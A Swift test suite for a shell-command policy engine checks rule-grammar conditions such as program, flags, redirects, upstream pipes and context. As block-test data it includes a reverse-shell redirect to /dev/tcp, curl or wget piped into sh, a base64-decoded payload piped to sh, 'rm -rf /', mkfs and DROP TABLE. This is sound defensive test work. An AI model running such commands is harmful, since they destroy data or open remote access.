import Testing
@testable import LexeconPolicy
import LexeconShell

/// Each condition of the rule grammar, on hand-built effective commands.
@Suite struct GrammarTests {
    typealias F = Fixtures

    func policy(_ match: String, decision: String = "BLOCK", extra: String = "") throws -> Policy {
        try F.policy("""
        version: 1
        default: ALLOW
        rules:
          - id: r
            decision: \(decision)
            reason: test rule
            match: \(match)
        \(extra)
        """)
    }

    func verdict(_ policy: Policy, _ command: EffectiveCommand, text: String = "(hand-built)", environment: String = "") -> Verdict {
        F.decide(policy, [command], text: text, environment: environment).verdict
    }

    @Test func program() throws {
        let p = try policy("{program: [rm, 'mkfs.*']}")
        #expect(verdict(p, F.simple("rm")) == .block)
        #expect(verdict(p, F.simple("mkfs.ext4")) == .block)
        #expect(verdict(p, F.simple("ls")) == .allow)
    }

    @Test func programWord() throws {
        let p = try policy("{program_word: ['./*']}")
        var command = F.simple("build.sh")
        command.programWord = "./build.sh"
        #expect(verdict(p, command) == .block)
        #expect(verdict(p, F.simple("build.sh")) == .allow)
    }

    @Test func subcommand() throws {
        let p = try policy("{program: kubectl, subcommand: [[delete, '{ns,namespace}'], [drain]]}")
        #expect(verdict(p, F.simple("kubectl", ["delete", "ns", "prod"])) == .block)
        #expect(verdict(p, F.simple("kubectl", ["drain", "node1"])) == .block)
        #expect(verdict(p, F.simple("kubectl", ["delete", "pod", "x"])) == .allow)
        #expect(verdict(p, F.simple("kubectl", ["get", "ns"])) == .allow)
        let single = try policy("{program: git, subcommand: [push]}")
        #expect(verdict(single, F.simple("git", ["push"])) == .block)
        #expect(verdict(single, F.simple("git", ["pull"])) == .allow)
    }

    @Test func flagsAnyAllNone() throws {
        let any = try policy("{program: rm, flags: [-r, -R]}")
        #expect(verdict(any, F.simple("rm", flags: ["-r"])) == .block)
        #expect(verdict(any, F.simple("rm", flags: ["-f"])) == .allow)
        let all = try policy("{program: rm, flags: {all: [-r, -f]}}")
        #expect(verdict(all, F.simple("rm", flags: ["-r", "-f"])) == .block)
        #expect(verdict(all, F.simple("rm", flags: ["-r"])) == .allow)
        let none = try policy("{program: rm, flags: {any: [-r], none: [-i]}}")
        #expect(verdict(none, F.simple("rm", flags: ["-r"])) == .block)
        #expect(verdict(none, F.simple("rm", flags: ["-r", "-i"])) == .allow)
    }

    @Test func argsAndArgsRegex() throws {
        let args = try policy("{program: git, args: {any: ['+*', ':main']}}")
        #expect(verdict(args, F.simple("git", ["push", "origin", "+main"])) == .block)
        #expect(verdict(args, F.simple("git", ["push", "origin", "main"])) == .allow)
        let regex = try policy(#"{program: psql, args_regex: '(?i)drop\s+table'}"#)
        #expect(verdict(regex, F.simple("psql", ["-c", "DROP TABLE users"])) == .block)
        #expect(verdict(regex, F.simple("psql", ["-c", "select 1"])) == .allow)
        var heredoc = F.simple("psql")
        heredoc.redirections = [Redirection(kind: .hereDocument, fd: 0, target: F.word("drop table x;\n"))]
        #expect(verdict(regex, heredoc) == .block)
    }

    @Test func operandsClassesAndPaths() throws {
        let p = try policy("{program: rm, operands: {classes: [root, home], not_paths: ['/home/dev/keep']}}")
        var command = F.simple("rm")
        command.positionals = [F.word("/", path: F.path("/", .root))]
        #expect(verdict(p, command) == .block)
        command.positionals = [F.word("~", path: F.path("/home/dev", .home))]
        #expect(verdict(p, command) == .block)
        command.positionals = [F.word("x", path: F.path("/home/dev/project/x", .insideWorkspace))]
        #expect(verdict(p, command) == .allow)
        let dynamic = try policy("{program: rm, operands: {classes: [dynamic]}}")
        command.positionals = [F.word("$X", dynamic: true)]
        #expect(verdict(dynamic, command) == .block)
        let paths = try policy("{operands: {paths: ['/etc/**']}}")
        command.positionals = [F.word("/etc/passwd", path: F.path("/etc/passwd", .system))]
        #expect(verdict(paths, command) == .block)
    }

    @Test func effects() throws {
        let p = try policy("{effects: {kind: [delete], recursive: true, classes: [root, system]}}")
        #expect(verdict(p, F.rm("/", .root)) == .block)
        #expect(verdict(p, F.rm("/home/dev/project/build", .insideWorkspace)) == .allow)
        var nonRecursive = F.rm("/etc/x", .system)
        nonRecursive.effects[0].recursive = false
        #expect(verdict(p, nonRecursive) == .allow)
    }

    @Test func redirect() throws {
        let p = try policy("{redirect: {kind: [output, append], paths: ['/dev/tcp/**']}}")
        var command = F.simple("bash", ["-i"])
        command.redirections = [Redirection(kind: .output, fd: 1, target: F.word("/dev/tcp/1.2.3.4/80", path: F.path("/dev/tcp/1.2.3.4/80", .device, .system)))]
        #expect(verdict(p, command) == .block)
        command.redirections = [Redirection(kind: .output, fd: 1, target: F.word("out", path: F.path("/home/dev/project/out", .insideWorkspace)))]
        #expect(verdict(p, command) == .allow)
    }

    @Test func upstreamViaPrivilegedOpaqueDynamic() throws {
        let upstream = try policy("{program: sh, upstream: [curl, wget]}")
        #expect(verdict(upstream, F.simple("sh", upstream: ["curl"])) == .block)
        #expect(verdict(upstream, F.simple("sh", upstream: ["cat"])) == .allow)
        let via = try policy("{via: ['bash -c']}")
        var nested = F.simple("ls")
        nested.via = ["bash -c", "sudo"]
        #expect(verdict(via, nested) == .block)
        let privileged = try policy("{privileged: true}")
        var root = F.simple("ls")
        root.privileged = true
        #expect(verdict(privileged, root) == .block)
        #expect(verdict(privileged, F.simple("ls")) == .allow)
        let opaque = try policy("{opaque: [runtime_payload]}", extra: "on_dynamic: ALLOW")
        #expect(verdict(opaque, F.simple("sh", opaque: OpaqueReason(kind: .runtimePayload, detail: "base64 -d | sh"))) == .block)
        let notOpaque = try policy("{program: python3, opaque: false}")
        #expect(verdict(notOpaque, F.simple("python3", ["x.py"])) == .block)
        let dynamic = try policy("{dynamic: true}", decision: "BLOCK")
        #expect(verdict(dynamic, F.simple("$X", dynamic: true)) == .block)
    }

    @Test func regexOnRawTextIsATextClause() throws {
        let p = try policy(#"{regex: 'rm\s+-rf'}"#)
        let decision = F.decide(p, [], text: "rm -rf /")
        #expect(decision.verdict == .block)
        #expect(decision.reason.hasPrefix("command text:"))
        // A text clause also holds when the script does not parse.
        let parseError = p.evaluate(analysis: ShellAnalysis(commands: [], parseError: ShellParseError(line: 1, column: 1, message: "x")),
                                    request: F.request("rm -rf / ("))
        #expect(parseError.verdict == .block)
    }

    @Test func contextConditions() throws {
        let p = try policy("{program: terraform, environment: ['prod*'], principal: [ci-*], agent: [claude-code]}")
        var request = F.request(environment: "production")
        request.principal = "ci-bot"
        request.agent = "claude-code"
        #expect(p.evaluate(analysis: ShellAnalysis(commands: [F.simple("terraform")]), request: request).verdict == .block)
        request.environment = "dev"
        #expect(p.evaluate(analysis: ShellAnalysis(commands: [F.simple("terraform")]), request: request).verdict == .allow)
    }

    @Test func unlessExcludes() throws {
        let p = try F.policy("""
        version: 1
        default: ALLOW
        rules:
          - id: r
            decision: BLOCK
            reason: r
            match: {program: fdisk}
            unless: {program: fdisk, flags: [-l]}
        """)
        #expect(verdict(p, F.simple("fdisk", flags: ["-l"])) == .allow)
        #expect(verdict(p, F.simple("fdisk", ["/dev/sda"])) == .block)
    }

    @Test func matchListIsAnyOf() throws {
        let p = try policy("[{program: a}, {program: b}]")
        #expect(verdict(p, F.simple("a")) == .block)
        #expect(verdict(p, F.simple("b")) == .block)
        #expect(verdict(p, F.simple("c")) == .allow)
    }
}
